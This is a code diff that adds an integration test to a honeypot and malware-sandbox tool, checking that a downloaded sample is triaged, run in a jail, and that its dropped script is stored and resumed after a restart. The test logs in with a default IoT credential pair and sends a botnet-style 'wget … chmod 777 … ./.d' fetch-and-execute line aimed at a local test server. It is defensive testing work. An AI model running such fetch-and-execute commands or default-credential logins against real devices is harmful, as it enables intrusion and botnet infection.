@@ -9,6 +9,10 @@ so even a broken jail could not send a packet anywhere. Checks:
 - escape: a listener on the outer namespace's loopback receives nothing; the host files are unchanged;
 - triage of every x86-64/ARM/MIPS program: hashes, arch, and YARA matches of our test-sample rules;
 - honeypot -> sandbox: a telnet loader's download is analysed under the attacker's name and argument;
+- the sample pipeline: a loader's daemon_renamer is triaged (its `sample` event carries ssdeep, TLSH
+  and the YARA match; <sha256>.triage.json beside it), run (<sha256>.sandbox.json), and the script it
+  drops is stored as a new sample (source sandbox_drop, parent) and goes the same way; after a
+  restart, the store's samples without their documents are picked up again, the others left alone;
 - bad input: a missing file gives one line and exit 1.
 """
 
@@ -17,6 +21,7 @@ import os
 import socket
 import sys
 import threading
+import time
 from pathlib import Path
 
 sys.path.insert(0, str(Path(__file__).resolve().parent))
@@ -72,6 +77,88 @@ def honeypot_to_sandbox(binary: str, bins: Path, checks: ic.Checks) -> None:
     dns = reports[0].get("network", {}).get("dns", []) if reports else []
     checks.check(any(q.get("resolver") == "192.0.2.53" for q in dns),
                  "honeypot -> sandbox: the run saw the sample's DNS query (it ran with the attacker's argument)")
+    ic.remove_temp_dir(work)
+
+
+def sample_pipeline(binary: str, bins: Path, checks: ic.Checks) -> None:
+    payload = (bins / "x86_64" / "daemon_renamer").read_bytes()
+    sha = hl.sha256_of(payload)
+    work = ic.make_temp_dir("kansoku-hp-pipeline-")
+    overrides = {"sandbox": {"enabled": True, "timeout_s": 4}}
+    lab = hl.HoneypotLab(binary, work, overrides)
+    server = hl.SampleServer({"/bins/d.x86": payload})
+
+    def dropped(events):
+        return [e for e in ic.of_type(events, "sample")
+                if any(src.get("kind") == "sandbox_drop" and src.get("parent") == sha for src in e.get("sources", []))]
+
+    try:
+        lab.start()
+        client = hl.TelnetClient("127.0.0.1", lab.ports["telnet"])
+        client.login("root", "xc3511")
+        client.line(f"cd /tmp; wget http://127.0.0.1:{server.port}/bins/d.x86 -O .d; chmod 777 .d; ./.d 1")
+        client.read_until(hl.PROMPT)
+        client.close()
+        # The drop's own run comes last: wait for its sandbox.report.
+        events = lab.wait_for_events(
+            lambda ev: dropped(ev) and any(r.get("sha256") == dropped(ev)[0].get("sha256")
+                                           for r in ic.of_type(ev, "sandbox.report")), 60)
+    finally:
+        server.stop()
+        lab.stop()
+    mine = [e for e in ic.of_type(events, "sample") if e.get("sha256") == sha]
+    checks.check(len(mine) == 1, f"pipeline: one sample event for the download ({len(mine)})", lab.stderr_text[-1500:])
+    event = mine[0] if mine else {}
+    checks.check(event.get("ssdeep", "").count(":") == 2 and event.get("tlsh", "").startswith("T1")
+                 and len(event.get("tlsh", "")) == 72,
+                 f"pipeline: the sample event carries ssdeep and TLSH ({event.get('ssdeep')}, {event.get('tlsh')})")
+    checks.check("kansoku_test_daemon_renamer" in event.get("yara", []),
+                 f"pipeline: the sample event names its YARA match ({event.get('yara')})")
+    source = (event.get("sources") or [{}])[0]
+    checks.check(source.get("path") == "/tmp/.d", f"pipeline: the record keeps where the attacker put it ({source})")
+    store = lab.samples_dir() / sha[:2]
+    triage_doc = store / f"{sha}.triage.json"
+    sandbox_doc = store / f"{sha}.sandbox.json"
+    triage = json.loads(triage_doc.read_text()) if triage_doc.exists() else {}
+    report = json.loads(sandbox_doc.read_text()) if sandbox_doc.exists() else {}
+    checks.check(triage.get("sha256") == sha and triage.get("tlsh") == event.get("tlsh"),
+                 "pipeline: <sha256>.triage.json is the full triage report")
+    checks.check(report.get("sha256") == sha and report.get("verdict") == "malicious"
+                 and any(s.get("id") == "self_deletion" for s in report.get("signatures", [])),
+                 f"pipeline: <sha256>.sandbox.json is the full behaviour report ({report.get('verdict')})")
+    drops = dropped(events)
+    checks.check(len(drops) == 1, f"pipeline: the dropped script is stored as a new sample ({len(drops)})")
+    drop = drops[0] if drops else {}
+    drop_sha = drop.get("sha256", "")
+    drop_source = next((s for s in drop.get("sources", []) if s.get("kind") == "sandbox_drop"), {})
+    checks.check(drop_source.get("path") == "/tmp/.kansoku_stage2.sh" and drop.get("tlsh", "").startswith("T1"),
+                 f"pipeline: the drop records its path in the jail and is triaged ({drop_source})")
+    drop_file = lab.samples_dir() / drop_sha[:2] / drop_sha if drop_sha else None
+    checks.check(drop_file is not None and drop_file.exists() and drop_file.read_bytes().startswith(b"#!/bin/sh")
+                 and (drop_file.stat().st_mode & 0o111) == 0,
+                 "pipeline: the dropped file is in the store, never executable")
+    checks.check(any(r.get("sha256") == drop_sha for r in ic.of_type(events, "sandbox.report")),
+                 "pipeline: the dropped file is run in the sandbox too")
+
+    # Restart: the drop loses its triage document (as if the process had died before writing it);
+    # the new process triages it again and leaves the download, which has both documents, alone.
+    if drop_sha:
+        (lab.samples_dir() / drop_sha[:2] / f"{drop_sha}.triage.json").unlink()
+    before = len(ic.of_type(lab.events(), "sample"))
+    lab = hl.HoneypotLab(binary, work, overrides)
+    try:
+        lab.start()
+        events = lab.wait_for_events(lambda ev: len(ic.of_type(ev, "sample")) > before, 20)
+        time.sleep(1)
+    finally:
+        lab.stop()
+    again = ic.of_type(lab.events(), "sample")[before:]
+    checks.check([e.get("sha256") for e in again] == [drop_sha],
+                 f"resume: only the sample without its triage document is picked up again ({len(again)})")
+    checks.check((lab.samples_dir() / drop_sha[:2] / f"{drop_sha}.triage.json").exists() if drop_sha else False,
+                 "resume: its triage document is written again")
+    resumed = lab.summary_value(r"(\d+) resumed from the store")
+    checks.check(resumed == 1, f"resume: the summary counts one resumed sample ({resumed})")
     ic.remove_temp_dir(work)
 
 
@@ -167,6 +254,7 @@ def main() -> int:
                  f"({len(with_yara)} of {len(programs)})")
 
     honeypot_to_sandbox(binary, bins, checks)
+    sample_pipeline(binary, bins, checks)
 
     missing = ic.run([binary, "sandbox", "analyze", "/nonexistent/sample"], timeout=30)
     checks.check(missing.returncode == 1 and len(missing.stderr.strip().splitlines()) == 1,
